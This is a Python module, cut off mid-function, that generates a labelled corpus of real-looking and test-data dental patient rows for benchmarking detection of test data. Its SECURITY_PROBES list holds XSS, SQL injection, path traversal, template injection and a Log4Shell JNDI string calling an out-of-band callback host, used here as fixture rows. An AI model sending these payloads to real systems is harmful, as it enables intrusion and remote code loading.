"""A labelled corpus of dental-platform patient rows, real ones and test data, for measuring detection.

``generate(seed, rows)`` returns rows for a table ``patients(id uuid primary key, first_name,
last_name, email, phone, clinic, notes)``, each labelled ``real`` or ``test`` and tagged with the
``style`` that made it; ``load(conn, table, rows)`` creates the table and copies them in. The same
seed gives the same rows (with the pinned Faker).

Real rows are patients of clinics in nine countries: Faker names of the country (and some of
other origins), e-mail addresses made from the name at common providers, ISPs and employers'
domains, phone numbers in the country's formats (never in a range set aside for fiction), clinic
names as practices are named there, clinical notes in the country's language (often none), random
UUIDv4 ids. About 5 % of them are hard negatives (``HARD_NEGATIVES``), real data that looks like
test data at a glance: people named Testa, Tester, Sample, Mock, Foo, Null or Doe, addresses at
Test Valley Borough Council or Demos, clinics on Sample Road or in Demopolis, notes about a pulp
vitality test or a mock-up, phone numbers with 555 in them, time-ordered UUIDv7 ids.

Test rows (15 %) come in the fixture styles that teams write (``TEST_STYLES``): factory
sequences, Faker seeds, placeholder names in several languages, end-to-end and load-test users,
staging subdomains of the platform's own domain (``brightsmiles.com``), disposable and testing
mailboxes, reserved top-level domains, tenant fixtures, fictional and degenerate phone numbers,
documentation UUIDs, markers in notes, and rows whose only tell is one column, or a fixture
domain or a pool of seed names that many rows share.

``python -m bench.contamination_corpus [SEED]`` prints how many rows each style made.
"""

from __future__ import annotations

import random
import unicodedata
import uuid
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, replace
from typing import Any, TypeVar

from faker import Faker
from psycopg import Connection, sql

T = TypeVar("T")

COLUMNS = ("id", "first_name", "last_name", "email", "phone", "clinic", "notes")
TEST_SHARE = 0.15
HARD_NEGATIVE_SHARE = 0.05
COMPANY = "brightsmiles"  # the platform's own domain is brightsmiles.com


@dataclass(frozen=True)
class Row:
    """One patient row with its label (``real`` or ``test``) and the generator that made it (``style``)."""

    id: str
    first_name: str | None
    last_name: str | None
    email: str | None
    phone: str | None
    clinic: str | None
    notes: str | None
    label: str
    style: str

    def values(self) -> tuple[str | None, ...]:
        """The table's columns, in ``COLUMNS`` order."""
        return (self.id, self.first_name, self.last_name, self.email, self.phone, self.clinic, self.notes)


def _list(text: str) -> tuple[str, ...]:
    """Items separated by ``;``, so that long lists stay a few lines."""
    return tuple(item.strip() for item in text.split(";") if item.strip())


def _weights(text: str) -> tuple[tuple[str, int], ...]:
    """``"gmail.com 40; yahoo.com 14"`` as ``(("gmail.com", 40), ("yahoo.com", 14))``."""
    return tuple((name, int(weight)) for name, weight in (item.rsplit(" ", 1) for item in _list(text)))


# -- countries ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Country:
    code: str
    locale: str
    share: float
    lang: str
    providers: tuple[tuple[str, int], ...]
    employers: tuple[str, ...]
    cities: tuple[str, ...]
    streets: tuple[str, ...]


COUNTRIES = (
    Country(
        "US",
        "en_US",
        0.32,
        "en",
        _weights(
            "gmail.com 40; yahoo.com 14; hotmail.com 8; outlook.com 8; icloud.com 9; aol.com 4; comcast.net 3; "
            "att.net 2; verizon.net 1; protonmail.com 1; me.com 2; live.com 2; msn.com 1; sbcglobal.net 1"
        ),
        _list(
            "kaiserpermanente.org; deloitte.com; wellsfargo.com; intel.com; utexas.edu; ups.com; target.com; "
            "mayo.edu; boeing.com; state.co.us; nike.com; umich.edu"
        ),
        _list(
            "Austin; Denver; Portland; Madison; Raleigh; Boise; Tucson; Columbus; Sacramento; Omaha; Spokane; "
            "Savannah; Albany; Fresno; Plano; Naperville; Scottsdale; Bellevue"
        ),
        _list(
            "Main Street; Oak Avenue; Maple Street; Elm Street; Park Avenue; Lakeview; Cedar Lane; Broadway; Highland"
        ),
    ),
    Country(
        "GB",
        "en_GB",
        0.15,
        "en",
        _weights(
            "gmail.com 35; hotmail.co.uk 14; yahoo.co.uk 8; outlook.com 9; btinternet.com 8; icloud.com 7; sky.com 4; "
            "live.co.uk 4; virginmedia.com 3; talktalk.net 2; aol.co.uk 1; googlemail.com 3"
        ),
        _list(
            "nhs.net; bbc.co.uk; barclays.com; ed.ac.uk; leeds.ac.uk; tesco.com; hmrc.gov.uk; arup.com; bristol.gov.uk"
        ),
        _list(
            "Leeds; Bristol; Norwich; York; Bath; Exeter; Chester; Reading; Brighton; Derby; Harrogate; Cambridge; "
            "Guildford; Canterbury; Kendal; Stockport"
        ),
        _list("High Street; Station Road; Church Lane; Victoria Road; London Road; Mill Lane; Queen Street; Parade"),
    ),
    Country(
        "AU",
        "en_AU",
        0.10,
        "en",
        _weights(
            "gmail.com 38; bigpond.com 12; hotmail.com 10; outlook.com 9; yahoo.com.au 7; icloud.com 8; "
            "optusnet.com.au 5; iinet.net.au 4; live.com.au 3; tpg.com.au 2"
        ),
        _list("health.nsw.gov.au; uq.edu.au; anz.com; telstra.com; bhp.com; unimelb.edu.au; education.vic.gov.au"),
        _list(
            "Parramatta; Fremantle; Geelong; Newcastle; Toowoomba; Ballarat; Wollongong; Hobart; Cairns; Bendigo; "
            "Chatswood; Glenelg; Manly; Carlton"
        ),
        _list("George Street; Pitt Street; King Street; Beach Road; Pacific Highway; Sydney Road"),
    ),
    Country(
        "CA",
        "en_CA",
        0.04,
        "en",
        _weights(
            "gmail.com 40; hotmail.com 12; outlook.com 8; yahoo.ca 8; icloud.com 7; shaw.ca 5; rogers.com 5; "
            "sympatico.ca 3; telus.net 3; videotron.ca 2"
        ),
        _list("ontario.ca; utoronto.ca; rbc.com; ubc.ca; cbc.ca; td.com"),
        _list("Ottawa; Halifax; Kelowna; Guelph; Victoria; Kingston; Saskatoon; Moncton; Burnaby"),
        _list("Yonge Street; King Street West; Queen Street; Main Street; Bank Street"),
    ),
    Country(
        "DE",
        "de_DE",
        0.11,
        "de",
        _weights(
            "gmail.com 22; web.de 20; gmx.de 18; gmx.net 8; t-online.de 12; outlook.de 4; yahoo.de 4; freenet.de 3; "
            "posteo.de 3; icloud.com 4; mailbox.org 2"
        ),
        _list("bosch.com; siemens.com; uni-heidelberg.de; charite.de; bahn.de; sap.com; allianz.de"),
        _list(
            "Freiburg; Münster; Leipzig; Augsburg; Bielefeld; Heidelberg; Kassel; Potsdam; Ulm; Regensburg; Bremen; "
            "Kiel; Würzburg; Bonn"
        ),
        _list("Hauptstraße; Bahnhofstraße; Schulstraße; Gartenstraße; Lindenstraße; Mühlenstraße"),
    ),
    Country(
        "FR",
        "fr_FR",
        0.09,
        "fr",
        _weights(
            "gmail.com 30; orange.fr 16; hotmail.fr 10; free.fr 10; laposte.net 6; sfr.fr 6; wanadoo.fr 5; "
            "yahoo.fr 6; outlook.fr 4; icloud.com 3"
        ),
        _list("aphp.fr; sncf.fr; edf.fr; univ-lyon1.fr; orange.com; renault.com"),
        _list("Lyon; Nantes; Rennes; Lille; Bordeaux; Grenoble; Dijon; Tours; Angers; Nîmes; Annecy; Reims"),
        _list("rue de la République; avenue Jean Jaurès; rue Victor Hugo; boulevard Gambetta; place du Marché"),
    ),
    Country(
        "ES",
        "es_ES",
        0.07,
        "es",
        _weights(
            "gmail.com 45; hotmail.com 18; hotmail.es 8; yahoo.es 6; outlook.es 6; telefonica.net 4; icloud.com 4; "
            "movistar.es 2"
        ),
        _list("telefonica.com; ub.edu; santander.com; mapfre.com; salud.madrid.org"),
        _list("Valencia; Sevilla; Zaragoza; Málaga; Bilbao; Granada; Salamanca; Alicante; Oviedo; Murcia; Vigo"),
        _list("Calle Mayor; Avenida de la Constitución; Calle Real; Gran Vía; Paseo del Prado"),
    ),
    Country(
        "IT",
        "it_IT",
        0.06,
        "it",
        _weights(
            "gmail.com 38; libero.it 16; hotmail.it 9; yahoo.it 8; virgilio.it 6; alice.it 5; tiscali.it 4; "
            "outlook.it 4; fastwebnet.it 3; icloud.com 3"
        ),
        _list("unibo.it; enel.com; intesasanpaolo.com; polimi.it; comune.torino.it"),
        _list("Bologna; Torino; Firenze; Verona; Padova; Bergamo; Parma; Bari; Trieste; Lecce"),
        _list("Via Roma; Corso Italia; Via Garibaldi; Via Mazzini; Piazza Duomo"),
    ),
    Country(
        "NL",
        "nl_NL",
        0.06,
        "nl",
        _weights(
            "gmail.com 36; hotmail.com 14; outlook.com 10; ziggo.nl 10; kpnmail.nl 7; live.nl 6; planet.nl 4; "
            "xs4all.nl 3; icloud.com 4; home.nl 3"
        ),
        _list("philips.com; uu.nl; ing.com; rabobank.nl; tudelft.nl; amsterdam.nl"),
        _list("Utrecht; Haarlem; Leiden; Groningen; Eindhoven; Nijmegen; Zwolle; Delft; Breda; Amersfoort; Maastricht"),
        _list("Dorpsstraat; Kerkstraat; Stationsweg; Molenweg; Hoofdstraat; Marktplein"),
    ),
)
US = COUNTRIES[0]

# People of other origins live in every country: names from these locales (romanised where needed).
OTHER_ORIGINS = _weights("en_IN 4; zh_CN 3; es_MX 3; pl_PL 2; tr_TR 2; vi_VN 1")

TEETH = _list("UL6; UR6; LL7; LR7; UR3; LL8; LR8; UL1; #3; #14; #19; #30; 36; 46; 16; 27")
INSURERS = _list("Delta Dental; Cigna; Aetna; MetLife; Bupa; Denplan; HCF; Medibank; AXA; Allianz")
NOTES = {
    "en": _list(
        "Recall in 6 months.; Prefers morning appointments.; Allergic to penicillin.; "
        "Latex allergy, use nitrile gloves.; Anxious patient, consider nitrous oxide.; Crown on {tooth} cemented.; "
        "Composite filling {tooth} MOD.; Scale and polish completed.; Bleeding on probing, reinforce flossing.; "
        "Referred to orthodontist for Invisalign consult.; Extraction of {tooth} scheduled.; Night guard delivered.; "
        "Insurance: {insurer}.; Missed appointment, called to reschedule.; "
        "Root canal {tooth} completed, crown to follow.; Takes warfarin, check INR before extractions.; "
        "Hygiene visit every 3 months.; Sensitive to cold on {tooth}.; Prefers text reminders.; "
        "Pregnant, postpone elective X-rays.; Wears partial denture, upper.; Bruxism, discussed splint."
    ),
    "de": _list(
        "Recall in 6 Monaten.; PZR durchgeführt.; Allergie: Penicillin.; Angstpatient, Termine mit Vorlauf.; "
        "Füllung {tooth} erneuert.; Bevorzugt Termine am Vormittag.; Krone {tooth} eingesetzt.; "
        "Überweisung an Kieferorthopäden.; Marcumar-Patient, INR prüfen.; Knirscht nachts, Schiene besprochen."
    ),
    "fr": _list(
        "Rappel dans 6 mois.; Détartrage effectué.; Allergie à la pénicilline.; Patient anxieux.; "
        "Couronne sur la {tooth} posée.; Préfère les rendez-vous le matin.; Adressé à l'orthodontiste.; "
        "Sous anticoagulants, vérifier l'INR."
    ),
    "es": _list(
        "Revisión en 6 meses.; Limpieza realizada.; Alergia a la penicilina.; Paciente ansioso.; "
        "Corona en {tooth} cementada.; Prefiere citas por la mañana.; Derivado a ortodoncia.; "
        "Bruxismo, se recomienda férula."
    ),
    "it": _list(
        "Richiamo tra 6 mesi.; Igiene professionale eseguita.; Allergia alla penicillina.; Paziente ansioso.; "
        "Corona su {tooth} cementata.; Preferisce appuntamenti al mattino.; Inviato all'ortodontista."
    ),
    "nl": _list(
        "Controle over 6 maanden.; Gebitsreiniging uitgevoerd.; Allergisch voor penicilline.; Angstige patiënt.; "
        "Kroon op {tooth} geplaatst.; Liever afspraken in de ochtend.; Doorverwezen naar orthodontist."
    ),
}
CLINIC_PATTERNS = {
    "en": _list(
        "{adj} Smiles Dental; {surname} Family Dentistry; {surname} & {surname2} Dental; Dr {surname} Dental Surgery; "
        "{city} Dental Care; {city} Dental Practice; {street} Dental; {city} Orthodontics; {adj} Teeth {city}; "
        "{city} Smile Studio; Bright Smiles Dental {city}; {surname} Dental Group; {city} Dental Clinic; "
        "{adj} Smile Clinic; {surname} and Partners Dental; {surname} and {surname2} Dentistry; Downtown {city} Dental"
    ),
    "de": _list(
        "Zahnarztpraxis Dr. {surname}; Praxis für Zahnheilkunde {surname}; Zahnärzte in der {street}; "
        "Zahnzentrum {city}; Kieferorthopädie {surname}"
    ),
    "fr": _list("Cabinet dentaire {surname}; Centre dentaire {city}; Cabinet du Dr {surname}; Centre de santé {city}"),
    "es": _list("Clínica Dental {surname}; Clínica Dental {city}; Centro Odontológico {surname}; Dental {surname}"),
    "it": _list("Studio Dentistico {surname}; Studio Odontoiatrico Dr. {surname}; Centro Dentale {city}"),
    "nl": _list(
        "Tandartspraktijk {city}; Tandartsenpraktijk {surname}; Mondzorg {city}; Tandheelkundig Centrum {city}"
    ),
}
ADJECTIVES = _list(
    "Bright; Happy; Gentle; Sunny; Radiant; Healthy; Confident; Perfect; Fresh; Pure; Modern; Complete; Harbour; "
    "Parkside; Riverside; Northside; Evergreen; Summit"
)
# Names fixtures use as placeholders: never a real row's.
PLACEHOLDER_NAMES = frozenset(
    tuple(name.split(" ", 1))
    for name in _list(
        "John Doe; Jane Doe; Jane Roe; Richard Roe; Max Mustermann; Erika Mustermann; Joe Bloggs; Fred Bloggs; "
        "Jenny Rosen; John Appleseed"
    )
)

# -- hard negatives: real data that looks like test data at a glance --------------------------

HARD_SURNAMES = _list(
    "Test; Tester; Testa; Testani; Testaverde; Testerman; Sample; Samples; Demos; Demopoulos; Dummett; Mock; Mockett; "
    "Foo; Fu; Bar; Null; Blank; Templeton; Dummer; Bot; Botha; Muster; Doe; Fakhoury; Qadir; Qamar; Devlin; Seed; "
    "Demonte; Probst; Tennant; Admiral; Fakes; Exley"
)
HARD_FIRST_NAMES = _list("Tess; Tessa; Testimony; Demi; Dev; Devon; Devi; Qamar; Fakhri; Sandy; Temperance")
DOE_FIRST_NAMES = _list("Samuel; Kwame; Esther; Abena; Joseph; Comfort; Emmanuel; Grace")  # Doe: West African
HARD_DOMAINS = _list(
    "testvalley.gov.uk; demos.co.uk; sandboxvr.com; qantas.com.au; qatarairways.com; devonenergy.com; "
    "testbirds.com; testing-lab.co.uk; contestlogistics.com; fakenhamcollege.ac.uk; mockingbird-books.com; "
    "templeton.org; examvault.co.uk; stagecoachbus.com; dummerston.org; latest-homes.co.uk; protest-sportswear.com; "
    "demolition-experts.com; loadstar-freight.com; seedinvest.com"
)
HARD_HANDLES = _list(
    "greatestdad{yy}; honest.{first}; tempest.{last}; contestwinner{nn}; latestnews{nn}; protestsinger; "
    "attest.{first}; {first}.testa; sam.tester; {first}.sample; mocktail.{first}; demolition{first}; "
    "sandbox.{first}; {first}qa{nn}; {first}.dev; fakir{nn}"
)
PLUS_TAGS = _list("dentist; dental; health; brightsmiles; appointments; medical; kids")
HARD_CLINICS = _list(
    "Contest Dental; Protest Street Dental; Latest Smiles; Greatest Smiles Dental; Attest Dental Care; "
    "Testa Family Dentistry; Sample Road Dental; Demopolis Dental; Test Valley Dental Practice; "
    "Fakenham Dental Surgery; Templestowe Dental; Tempe Family Dentistry; Foothill Dental; Bar Harbor Dental; "
    "Mockingbird Dental; Devonport Dental; Qualitas Dental; Testament Dental Group; Example Street Dental; "
    "Dummett & Sons Dental"
)
HARD_NOTES = _list(
    "Pulp vitality test positive on {tooth}.; Cold test negative on {tooth}, refer for RCT.; "
    "Blood test results normal.; X-ray test shows no caries.; Tested positive for COVID, appointment moved.; "
    "Biopsy sample sent to lab.; Temporary crown on {tooth}, dummy tooth on the bridge.; "
    "Do not use whitening strips: enamel erosion.; Whitening demo shown, patient will think about it.; "
    "Mock-up approved for veneers.; Diagnostic wax-up and mock-up done.; Saliva sample taken for caries risk test.; "
    "Allergy test for lidocaine pending.; Fake tooth (pontic) on bridge loose.; Temp filling placed.; "
    "Sample toothpaste given.; Patient is a software tester, works nights.; Placeholder crown, final in 2 weeks.; "
    "Vitalitätstest positiv.; Test de vitalité positif."
)

# -- test data -------------------------------------------------------------------------------

DISPOSABLE_COMMON = _list(
    "mailinator.com; yopmail.com; guerrillamail.com; sharklasers.com; 10minutemail.com; temp-mail.org; getnada.com; "
    "maildrop.cc; trashmail.com; dispostable.com; throwawaymail.com; mailnesia.com; grr.la; guerrillamail.net; "
    "yopmail.fr"
)
DISPOSABLE_RARE = _list(
    "mailpoof.com; tempr.email; emailondeck.com; spamgourmet.com; mintemail.com; fakeinbox.com; mytemp.email; "
    "tempmailo.com; burnermail.io; inboxkitten.com; harakirimail.com; dropmail.me; emailfake.com; moakt.com; "
    "tmpmail.org; pokemail.net; spam4.me; mohmal.com; mailcatch.com; trbvm.com; tempail.com; tempinbox.com; "
    "jetable.org; mail-temp.com; emltmp.com; tmail.ws; discard.email"
)
TEST_INBOXES = _list(
    "ethereal.email; inbox.mailtrap.io; mailtrap.io; mailslurp.com; mailslurp.net; inbox.testmail.app; "
    "mailhog.local; mailpit.local; mailsac.com; inbucket.local"
)
RESERVED_TLDS = _list("test; example; invalid; localhost")
ENVIRONMENTS = _list("staging; qa; dev; sandbox; uat; preprod; test; stg; demo")
PLACEHOLDERS = tuple(
    tuple(name.split("/"))
    for name in _list(
        "John/Doe; Jane/Doe; Jane/Roe; Richard/Roe; John Q./Public; Joe/Bloggs; Fred/Bloggs; Joe/Schmoe; Foo/Bar; "
        "Lorem/Ipsum; Firstname/Lastname; First/Last; Name/Surname; Baby/Doe; John/Smith"
    )
)
# first name, last name, example domains of the language, a placeholder phone number, a note
LOCALE_PLACEHOLDERS = tuple(
    (first, last, tuple(domains.split()), phone, note)
    for first, last, domains, phone, note in (
        item.split("|")
        for item in _list(
            "Max|Mustermann|mustermann.de beispiel.de example.de|+49 30 12345678|Testpatient, bitte nicht abrechnen.; "
            "Erika|Mustermann|mustermann.de beispiel.de|0123 4567890|Musterpatientin für die Schulung.; "
            "Jean|Dupont|exemple.fr exemple.com|06 12 34 56 78|Patient fictif pour la formation.; "
            "Marie|Dupont|exemple.fr|01 23 45 67 89|Dossier de test.; "
            "Juan|Pérez|ejemplo.com ejemplo.es|600 000 000|Paciente de prueba.; "
            "Fulano|de Tal|ejemplo.com|612 345 678|Paciente de prueba, no facturar.; "
            "Mario|Rossi|esempio.it esempio.com|333 1234567|Paziente di prova.; "
            "Jan|Jansen|voorbeeld.nl|06-12345678|Testpatiënt.; "
            "Jan|Modaal|voorbeeld.nl|020-1234567|Proefpatiënt voor de demo.; "
            "Joe|Bloggs|example.co.uk|07700 900123|Dummy patient for training.; "
            "Jan|Kowalski|przyklad.pl|+48 123 456 789|Pacjent testowy."
        )
    )
)
JEST_NAMES = tuple(
    tuple(name.split())
    for name in _list(
        "Alice Smith; Bob Jones; Charlie Brown; Dave Example; Eve Adams; Mallory Evans; Alice Anderson; Bob Builder; "
        "Carol White; Trent Lee"
    )
)
JEST_DOMAINS = _list("example.com; test.com; foo.com; bar.com; acme.com; email.com; mail.com; domain.com")
TEST_CLINICS = _list(
    "Test Clinic; Demo Practice; QA Clinic 2; Sandbox Dental; Staging Clinic; Dev Clinic; Training Practice; "
    "Example Dental; Dummy Dental Co; Clinic 123; Copy of Bright Smiles Dental; ZZ Test Practice; "
    "Internal Testing Clinic; UAT Practice 3; Acme Dental; New Clinic (copy); DO NOT USE - QA; Test Practice Berlin; "
    "Cabinet Test; Clinica Prueba"
)
NOTE_MARKERS = _list(
    "[TEST] do not contact; TEST - please ignore; created by QA for regression run; dummy record for sales demo; "
    "test patient, do not bill; DELETE ME; internal test, ignore; QA: verifying reminder emails; "
    "testing SMS reminders, not a real patient; Fake patient for training session; #test; Automation: booking flow; "
    "please ignore, checking the Dentrix integration; e2e fixture; seeded by db/seeds.rb; generated by factory; "
    "load test data; TEST TEST TEST; xxx; test"
)
LOREM = _list(
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.; Sed do eiusmod tempor incididunt ut labore.; "
    "Ut enim ad minim veniam, quis nostrud exercitation.; Duis aute irure dolor in reprehenderit.; "
    "Excepteur sint occaecat cupidatat non proident.; Lorem ipsum."
)
MASHES = _list("asdf; qwerty; sdfsdf; jkl; aaaa; xxx; fghfgh; zxcv; asdasd; qweqwe; hjkl; dfgdfg; aaa; abc; test123")
SECURITY_PROBES = (
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE patients;--",
    "' OR '1'='1",
    "{{7*7}}",
    "${jndi:ldap://x.oastify.com/a}",
    '"><img src=x onerror=alert(1)>',
    "admin'--",
    "<svg/onload=alert(1)>",
    "'; WAITFOR DELAY '0:0:5'--",
    "../../etc/passwd",
)
PROBE_DOMAINS = _list("burpcollaborator.net; oastify.com; interact.sh; xss.ht; example.com")
EDGE_VALUES: tuple[str, ...] = (
    "null",
    "undefined",
    "NaN",
    "None",
    "N/A",
    "Ünïcödé Tëst",
    "Zoë 🦷",
    "A" * 60,
    "O'Test",
    "   ",
    "ñ",
)
EDGE_VALUES += ("テスト", "NULL", "nil", "-", "Ｔｅｓｔ")
# the contacts every iOS simulator comes with
IOS_CONTACTS = tuple(
    tuple(item.split("|"))
    for item in _list(
        "Kate|Bell|kate-bell@mac.com|(555) 564-8583; Daniel|Higgins Jr.|d-higgins@mac.com|555-478-7672; "
        "John|Appleseed|John-Appleseed@mac.com|888-555-5512; Anna|Haro|anna-haro@mac.com|555-522-8243; "
        "Hank M.|Zakroff|hank-zakroff@mac.com|(555) 766-4823; David|Taylor|david.taylor@mac.com|555-610-6679"
    )
)
SEED_POOL = tuple(
    tuple(name.split())
    for name in _list(
        "Olivia Bennett; Liam Carter; Emma Hughes; Noah Foster; Ava Reynolds; Lucas Murphy; Mia Sullivan; Ethan Brooks"
    )
)
SEED_PHONES = _list("(415) 872-3391; (415) 872-3392; (646) 930-2218")
US_AREA = _list("212; 646; 415; 510; 312; 617; 206; 303; 512; 602; 404; 305; 713; 214; 919; 503; 614; 702; 612; 801")
UK_FICTION = _list(
    "07700 900{n3}; 020 7946 0{n3}; 0113 496 0{n3}; 0161 496 0{n3}; 0121 496 0{n3}; 0117 496 0{n3}; "
    "0131 496 0{n3}; 01632 960{n3}; 028 9649 6{n3}; +44 7700 900{n3}; +44 20 7946 0{n3}; 0808 157 0{n3}"
)
AU_FICTION = _list(
    "0491 570 156; 0491 570 157; 0491 570 158; 0491 570 159; 0491 570 110; 0491 570 313; 0491 570 737; "
    "(02) 5550 {n4}; (03) 5550 {n4}; (07) 5550 {n4}; (08) 5550 {n4}; (02) 7010 {n4}; (03) 7010 {n4}; "
    "+61 491 570 156; 1800 975 707; 1300 975 711"
)
DEGENERATE_PHONES = _list(
    "000-000-0000; 123-456-7890; 111-111-1111; 999-999-9999; 0000000000; +1 000 000 0000; 12345678; n/a; -; 0; "
    "555-5555; 867-5309; +44 0000 000000; 1234567890; +10000000000; (000) 000-0000; 01234 567890; +49 000 000000; "
    "none; tbd"
)
DOC_UUIDS = _list(
    "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11; f47ac10b-58cc-4372-a567-0e02b2c3d479; "
    "6ba7b810-9dad-11d1-80b4-00c04fd430c8; 6ba7b811-9dad-11d1-80b4-00c04fd430c8; "
    "12345678-1234-5678-1234-567812345678; deadbeef-dead-beef-dead-beefdeadbeef; "
    "00000000-0000-0000-c000-000000000046; ffffffff-ffff-ffff-ffff-ffffffffffff; "
    "01234567-89ab-cdef-0123-456789abcdef; 3fa85f64-5717-4562-b3fc-2c963f66afa6"
)


def _one(rng: random.Random, *items: T) -> T:
    return items[rng.randrange(len(items))]


def _pick(rng: random.Random, items: Sequence[T]) -> T:
    return items[rng.randrange(len(items))]


def _weighted(rng: random.Random, pairs: Sequence[tuple[T, float]]) -> T:
    return rng.choices([p[0] for p in pairs], weights=[p[1] for p in pairs])[0]


FOLD = str.maketrans({"ß": "ss", "æ": "ae", "ø": "o", "ł": "l", "ı": "i", "œ": "oe", "đ": "d", "ð": "d", "þ": "th"})


def _ascii(text: str | None) -> str:
    """The lower-case ASCII letters and digits of a name, as people put it in an e-mail address."""
    text = unicodedata.normalize("NFKD", (text or "").lower().translate(FOLD))
    return "".join(c for c in text if c.isascii() and c.isalnum())


def _digits(rng: random.Random, n: int) -> str:
    return "".join(str(rng.randrange(10)) for _ in range(n))


class _Context:
    """The seeded state a corpus is made from: the random source, Faker per locale, clinics, ids taken."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.fakers: dict[str, Faker] = {}
        for i, locale in enumerate(sorted({c.locale for c in COUNTRIES} | {loc for loc, _ in OTHER_ORIGINS})):
            fake = Faker(locale)
            fake.seed_instance(seed * 1000 + i)
            self.fakers[locale] = fake
        self.used_ids: set[str] = set()
        self.counters: dict[str, int] = {}
        self.uuid7_ms = 1_704_067_200_000  # 2024-01-01
        self.country = US  # of the last real row made
        self.clinics = {c.code: self._clinics(c, 36 if c.share > 0.1 else 16) for c in COUNTRIES}

    def next(self, name: str, start: int = 1) -> int:
        """A sequence per name, as fixture factories keep them."""
        value = self.counters.get(name, start)
        self.counters[name] = value + 1
        return value

    def _clinics(self, country: Country, n: int) -> list[str]:
        fake = self.fakers[country.locale]
        names: list[str] = []
        while len(names) < n:
            name = _pick(self.rng, CLINIC_PATTERNS[country.lang]).format(
                adj=_pick(self.rng, ADJECTIVES),
                surname=fake.last_name(),
                surname2=fake.last_name(),
                city=_pick(self.rng, country.cities),
                street=_pick(self.rng, country.streets),
            )
            if name not in names:
                names.append(name)
        return names

    def uuid4(self) -> str:
        while True:
            value = str(uuid.UUID(int=self.rng.getrandbits(128), version=4))
            if self.claim(value):
                return value

    def claim(self, value: str) -> bool:
        """Take an id if no row has it yet."""
        if value in self.used_ids:
            return False
        self.used_ids.add(value)
        return True

    def reid(self, row: Row, value: str) -> Row | None:
        """The row with id ``value`` if no other row has it (its own id is given back)."""
        if not self.claim(value):
            return None
        self.used_ids.discard(row.id)
        return replace(row, id=value)


# -- real rows -------------------------------------------------------------------------------


def _name(ctx: _Context, country: Country) -> tuple[str, str]:
    rng = ctx.rng
    locale = _weighted(rng, OTHER_ORIGINS) if rng.random() < 0.12 else country.locale
    fake = ctx.fakers[locale]
    while True:
        if locale == "zh_CN":
            first, last = fake.first_romanized_name(), fake.last_romanized_name()
        else:
            first, last = fake.first_name(), fake.last_name()
        if (first, last) not in PLACEHOLDER_NAMES:
            return first, last


def _email(ctx: _Context, country: Country, first: str, last: str) -> str:
    """An address made from the name: at a provider, an employer or a small business's own domain."""
    rng = ctx.rng
    f, la = _ascii(first.split()[0]) or "x", _ascii(last) or "x"
    yy = f"{rng.randint(50, 99) if rng.random() < 0.7 else rng.randint(0, 9):02d}"
    nn = str(rng.randint(1, 999))
    r = rng.random()
    if r < 0.72:
        local = _one(rng, f"{f}.{la}", f"{f}{la}", f"{f[0]}{la}", f"{f}_{la}", f"{la}.{f}", f"{f}{la[0]}")
        if rng.random() < 0.35:
            local = _one(rng, f"{f}.{la}{nn}", f"{f}{yy}", f"{f}{la}{yy}", f"{f[0]}{la}{nn}", f"{la}{f[0]}{yy}")
        return f"{local}@{_weighted(rng, country.providers)}"
    local = _one(rng, f"{f}.{la}", f"{f[0]}{la}", f"{f[0]}.{la}", f)
    if r < 0.84:
        return f"{local}@{_pick(rng, country.employers)}"
    domain = ctx.fakers[country.locale].domain_name()
    if len(domain.split(".")[0]) < 4:  # Faker makes "van.info" of "van Dijk": take a provider instead
        domain = _weighted(rng, country.providers)
    return f"{local}@{domain}"


def _phone_na(rng: random.Random, country: Country) -> str:
    area = _pick(rng, US_AREA) if country.code == "US" else _one(rng, "416", "613", "604", "902", "403")
    ex = str(rng.randint(201, 989))
    while ex in ("555", "911", "411", "611") or ex[1:] == "11":
        ex = str(rng.randint(201, 989))
    line = _digits(rng, 4)
    formats = (f"({area}) {ex}-{line}", f"{area}-{ex}-{line}", f"+1 {area} {ex} {line}", f"{area}.{ex}.{line}")
    return _pick(rng, (*formats, f"{area}{ex}{line}", f"+1 ({area}) {ex}-{line}"))


def _phone_gb(rng: random.Random) -> str:
    d = _digits
    if rng.random() < 0.6:
        mobile = f"7{rng.randint(400, 999)}"
        while mobile == "7700":
            mobile = f"7{rng.randint(400, 999)}"
        rest = d(rng, 6)
        return _one(rng, f"0{mobile} {rest}", f"+44 {mobile} {rest}", f"0{mobile}{rest}")
    code, local = _one(
        rng,
        ("20", f"{rng.choice('378')}{d(rng, 3)} {d(rng, 4)}"),
        ("113", f"{rng.randint(200, 399)} {d(rng, 4)}"),
        ("161", f"{rng.randint(200, 399)} {d(rng, 4)}"),
        ("117", f"{rng.randint(900, 979)} {d(rng, 4)}"),
        ("1603", d(rng, 6)),
        ("1904", d(rng, 6)),
    )
    return _one(rng, f"0{code} {local}", f"+44 {code} {local}")


def _phone_au(rng: random.Random) -> str:
    d = _digits
    if rng.random() < 0.65:
        mid, rest = f"4{rng.randint(0, 9)}{rng.randint(0, 9)}", d(rng, 6)
        if mid == "491" and rest.startswith("570"):
            rest = "6" + rest[1:]
        return _one(rng, f"0{mid} {rest[:3]} {rest[3:]}", f"+61 {mid} {rest[:3]} {rest[3:]}", f"0{mid}{rest}")
    area, first = rng.choice("2378"), rng.choice("4689")
    return _one(rng, f"(0{area}) {first}{d(rng, 3)} {d(rng, 4)}", f"+61 {area} {first}{d(rng, 3)} {d(rng, 4)}")


def _phone_eu(rng: random.Random, country: Country) -> str:
    d = _digits
    match country.code:
        case "DE":
            if rng.random() < 0.55:
                pre = _pick(rng, _list("151; 152; 157; 160; 170; 171; 172; 175; 176; 177; 179"))
                rest = d(rng, rng.choice((7, 8)))
                return _one(rng, f"0{pre} {rest}", f"+49 {pre} {rest}", f"0{pre}/{rest}")
            area, rest = (
                _pick(rng, _list("30; 89; 40; 221; 761; 251; 341; 621; 6221")),
                f"{rng.randint(2, 9)}{d(rng, 6)}",
            )
            return _one(rng, f"0{area} {rest}", f"+49 {area} {rest}")
        case "FR":
            lead, pairs = rng.choice("1234567"), [f"{rng.randint(10, 99)}" for _ in range(4)]
            if (lead, pairs[0]) in (("1", "99"), ("2", "61"), ("3", "53"), ("4", "65"), ("5", "36"), ("6", "39")):
                pairs[0] = "42"  # ARCEP's numbers for fiction
            body = " ".join(pairs)
            return _one(rng, f"0{lead} {body}", f"+33 {lead} {body}", f"0{lead}{''.join(pairs)}")
        case "ES":
